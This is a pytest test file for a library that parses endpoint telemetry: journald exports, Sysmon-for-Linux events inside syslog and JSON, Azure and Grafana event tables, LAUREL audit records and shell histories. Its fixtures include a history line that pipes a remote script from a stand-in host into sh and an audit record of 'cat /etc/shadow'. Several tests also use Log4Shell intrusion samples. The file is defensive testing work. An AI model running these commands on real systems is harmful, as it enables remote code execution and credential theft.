"""Formats of endpoint telemetry: the journal's export, LAUREL, events inside other records."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from yoban.collect.formats import journal_export
from yoban.collect.formats._base import Hints
from yoban.collect.recognise import identify, sources
from yoban.collect.sniff import choose
from yoban.model.batch import Frames, Quarantined
from yoban.query.record import loads, own

EVENT = (
    '<Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><TimeCreated '
    'SystemTime="2026-03-01T00:00:00.5Z"/><Computer>lx-01</Computer></System><EventData>'
    '<Data Name="Image">/usr/bin/id</Data><Data Name="CommandLine">id -u</Data></EventData></Event>'
)


def read(raw: bytes, name: str) -> tuple[list[dict[str, Any]], list[Quarantined]]:
    form = choose(raw)
    assert form is not None and form.name == name
    good: list[dict[str, Any]] = []
    bad: list[Quarantined] = []
    for part in form.decode(io.BytesIO(raw), Hints()):
        if isinstance(part, Quarantined):
            bad.append(part)
        else:
            good += [loads(part.record(i))[0] for i in range(len(part))]
    return good, bad


def made(record: dict[str, Any], *names: str) -> tuple[str, list[Any]]:
    source, layout = identify(record, sources())
    return source.name, [own(record, layout, name) for name in names]


def test_journal_export_with_binary_values_lists_and_programs() -> None:
    message = "line one\n\nline two é".encode()
    raw = (
        b"__CURSOR=c1\n__REALTIME_TIMESTAMP=1772323200000000\n_HOSTNAME=lx-01\n"
        b"SYSLOG_IDENTIFIER=sshd\nMESSAGE=Accepted password for ana from 192.0.2.1 port 4 ssh2\n\n"
        b"__CURSOR=c2\n__REALTIME_TIMESTAMP=1772323200000001\nMESSAGE\n"
        + len(message).to_bytes(8, "little")
        + message
        + b"\nTAG=a\nTAG=b\nTAG=c\n\n__CURSOR=c3\nMESSAGE\n\xff\xff\xff\xff\xff\xff\xff\xff\n\n"
        b"__CURSOR=c4\n__REALTIME_TIMESTAMP=1772323200000002\nMESSAGE=end\n"
    )
    good, bad = read(raw, "journal_export")
    assert [r["__CURSOR"] for r in good] == ["c1", "c2", "c4"]
    assert good[1]["MESSAGE"] == "line one\n\nline two é"
    assert good[1]["TAG"] == ["a", "b", "c"]
    assert [(q.reason, q.number, raw[q.at : q.at + 11]) for q in bad] == [
        ("bad_field", 2, b"__CURSOR=c3")
    ]
    assert made(good[0], "program", "hostname") == ("linux_syslog", ["sshd", "lx-01"])


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("syslog", f"Mar  1 00:00:00 lx-01 sysmon: {EVENT}\n".encode()),
        ("json_nested", json.dumps({"SyslogMessage": EVENT, "Type": "Syslog"}).encode() + b"\n"),
        ("json_nested", json.dumps({"MESSAGE": EVENT, "_HOSTNAME": "lx-01"}).encode() + b"\n"),
        (
            "journal_export",
            f"__CURSOR=c\n__REALTIME_TIMESTAMP=1772323200000000\nMESSAGE={EVENT}\n\n".encode(),
        ),
    ],
)
def test_sysmon_for_linux_is_found_in_what_carries_it(name: str, raw: bytes) -> None:
    good, bad = read(raw, name)
    assert bad == []
    assert made(good[0], "Image", "CommandLine", "EventID", "Computer") == (
        "sysmon_linux",
        ["/usr/bin/id", "id -u", 1, "lx-01"],
    )


def test_an_event_that_syslog_cut_off_is_read_as_far_as_it_goes() -> None:
    whole = f"Mar  1 00:00:00 lx-01 sysmon: {EVENT}"
    for cut in ("id -u", "id -", "</Data", "<Data Name="):
        text = whole[: whole.rindex(cut) + len(cut)]
        good, _ = read(text.encode() + b"\n", "syslog")
        assert made(good[0], "Image", "EventID") == ("sysmon_linux", ["/usr/bin/id", 1])
        assert good[0]["Event"]["#cut"] is True
    bare = whole.replace("id -u", "a &lt b &amp;&amp; c & d &gt")
    good, _ = read(bare.encode() + b"\n", "syslog")
    assert made(good[0], "CommandLine")[1] == ["a < b && c & d >"]
    text = whole.split("Linux-Sysmon")[0]
    assert made(read(text.encode() + b"\n", "syslog")[0][0])[0] == "linux_syslog"


def test_event_data_of_azure_tables_becomes_fields() -> None:
    data = {"Image": "C:\\x.exe", "EventID": "other"}
    xml = '<EventData xmlns="http://s">\r\n<Data Name="Application">\\x.exe</Data></EventData>'
    base = {"Channel": "Security", "Computer": "LT-01", "TimeGenerated": "2026-03-01T00:00:00Z"}
    rows = (
        {**base, "EventID": 1, "EventData": json.dumps(data)},
        {**base, "EventID": 5156, "EventData": xml},
        {**base, "EventID": 7, "EventData": "<EventData><Data>"},
        {**base, "EventID": 8, "EventData": "{broken"},
    )
    good, bad = read(b"".join(json.dumps(row).encode() + b"\n" for row in rows), "json_nested")
    assert bad == [] and [r["EventID"] for r in good] == [1, 5156, 7, 8]
    assert made(good[0], "Image") == ("windows", ["C:\\x.exe"])
    assert made(good[1], "Application") == ("windows", ["\\x.exe"])
    assert good[2] == rows[2] and good[3] == rows[3]


def test_event_data_of_grafana_agents_becomes_fields() -> None:
    """Loki's agents write what stands inside <EventData>, without the element itself."""
    base = {"channel": "Security", "computer": "LT-01", "timeCreated": "2026-03-01T00:00:00Z"}
    data = "<Data Name='NewProcessName'>C:\\a.exe</Data><Data Name='SubjectUserName'/>"
    rows = (
        {**base, "event_id": 4688, "event_data": data},
        {**base, "event_id": 1, "event_data": "<Data Name='X'>cut"},
    )
    good, bad = read(b"".join(json.dumps(row).encode() + b"\n" for row in rows), "json_nested")
    assert bad == []
    assert made(good[0], "NewProcessName") == ("windows", ["C:\\a.exe"])
    assert good[1] == rows[1]


def test_a_damaged_line_beside_nested_events_keeps_its_place() -> None:
    lines = [json.dumps({"MESSAGE": EVENT}).encode(), b'{"MESSAGE":"<Event', b'{"n":1}']
    good, bad = read(b"\n".join(lines) + b"\n", "json_nested")
    assert [r.get("n") for r in good] == [None, 1]
    assert [(q.number, q.at, q.length) for q in bad] == [(1, len(lines[0]) + 1, len(lines[1]))]


def test_laurel_gives_what_the_audit_daemon_gives() -> None:
    record = {
        "ID": "1772323200.125:41",
        "NODE": "lx-01",
        "SYSCALL": {"pid": 9, "uid": 0, "exe": "/usr/bin/cat", "PPID": {"exe": "/usr/bin/bash"}},
        "EXECVE": {"argc": 2, "ARGV": ["cat", "/etc/shadow"]},
        "PATH": [{"name": "/usr/bin/cat"}, {"name": "/lib/x.so", "nametype": "NORMAL"}],
        "PROCTITLE": {"ARGV": ["cat", "/etc/shadow"]},
    }
    good, bad = read(json.dumps(record).encode() + b"\n", "laurel")
    assert bad == []
    assert made(good[0], "type", "a1", "cmdline", "timestamp", "name", "parent.exe", "node") == (
        "linux_auditd",
        [
            *(["SYSCALL", "EXECVE", "PATH", "PROCTITLE"], "/etc/shadow", "cat /etc/shadow"),
            *(1772323200.125, ["/usr/bin/cat", "/lib/x.so"], "/usr/bin/bash", "lx-01"),
        ],
    )


def test_real_events_of_azure_tables_are_those_they_carry(data: Path) -> None:
    expected = {
        "syslog_sysmon_log4shell_cve2021_44228_jndi_reference.zip": ("sysmon_linux", "Image"),
        "syslog_auoms_auditd_log4shell_cve2021_44228_jndi_reference.zip": ("linux_auditd", "exe"),
        "sysmon_log4shell_cve2021_44228_java_serialized_object.zip": ("windows", "Image"),
        "securityauditing_log4shell_cve2021_44228_java_serialized_object.zip": (
            "windows",
            "Application",
        ),
    }
    for name, (source, field) in expected.items():
        with zipfile.ZipFile(data / "intrusions" / "Log4Shell" / name) as archive:
            good, bad = read(archive.read(archive.namelist()[0]), "json_nested")
        assert bad == [] and len(good) > 20
        found = [made(record, field) for record in good]
        assert {f[0] for f in found} == {source}
        assert sum(f[1][0] is not None for f in found) > len(found) / 3, name


class _Counted(io.BytesIO):
    reads = 0

    def read(self, size: int | None = -1) -> bytes:
        self.reads += 1
        return super().read(size)


def test_journal_entries_that_lie_about_a_size_read_on_once_at_most() -> None:
    """Reading on copies what is left: at every entry, that would take the square of the input."""
    entry = b"A\n" + (4_000_000).to_bytes(8, "little") + b"\n\n"
    stream = _Counted(b"__REALTIME_TIMESTAMP=1\n\n" + entry * 1000)
    parts = list(journal_export.decode(stream, Hints()))
    assert sum(isinstance(part, Quarantined) for part in parts) == 1000
    assert stream.reads < 5


def test_json_that_holds_policy_xml_is_json() -> None:
    line = b'{"message":"<EPOEvent><MachineInfo/></EPOEvent>","n":1}\n'
    form = choose(line * 3)
    assert form is not None and form.name == "ndjson"


def history(raw: bytes, name: str = "") -> list[dict[str, Any]]:
    form = choose(raw, name=name)
    assert form is not None and form.name == "shell_history"
    parts = list(form.decode(io.BytesIO(raw), Hints(name=name)))
    frames = [part for part in parts if isinstance(part, Frames)]
    assert len(frames) == len(parts)
    return [json.loads(part.record(i)) for part in frames for i in range(len(part))]


def test_histories_with_stamps_are_told_by_content() -> None:
    bash = b"#1772323200\nsudo -u www id -a\n#1772323201\nfor i in 1 2\ndo\n  ls\ndone\n"
    first, second = history(bash, "home/ana/.bash_history")
    assert (first["program"], first["path"], first["timestamp"]) == ("id", "/id", 1772323200)
    assert second["command"] == "for i in 1 2\ndo\n  ls\ndone"
    zsh = history(b": 1772323200:0;A=1 /opt/x/tool -v\n: 1772323203:5;ls\n")
    assert [r["shell"] for r in zsh] == ["zsh", "zsh"]
    assert (zsh[0]["path"], zsh[1]["timestamp"]) == ("/opt/x/tool", 1772323203)


def test_histories_without_stamps_are_told_by_name() -> None:
    [unix] = history(b"curl http://a.example/x | sh\n", "root/.bash_history")
    assert (unix["shell"], unix["path"]) == ("sh", "/curl")
    windows = history(
        b"whoami /all\r\nGet-ADUser -Filter *\r\n", "PSReadLine/ConsoleHost_history.txt"
    )
    assert [r["path"] for r in windows] == ["\\whoami.exe", "\\Get-ADUser"]
    assert {r["shell"] for r in windows} == {"powershell"}
    other = choose(b"id\nls\n", name="notes.txt")
    assert other is not None and other.name == "lines"
    as_json = choose(b'{"a":1}\n{"a":2}\n', name="home/ana/.bash_history")
    assert as_json is not None and as_json.name == "ndjson"
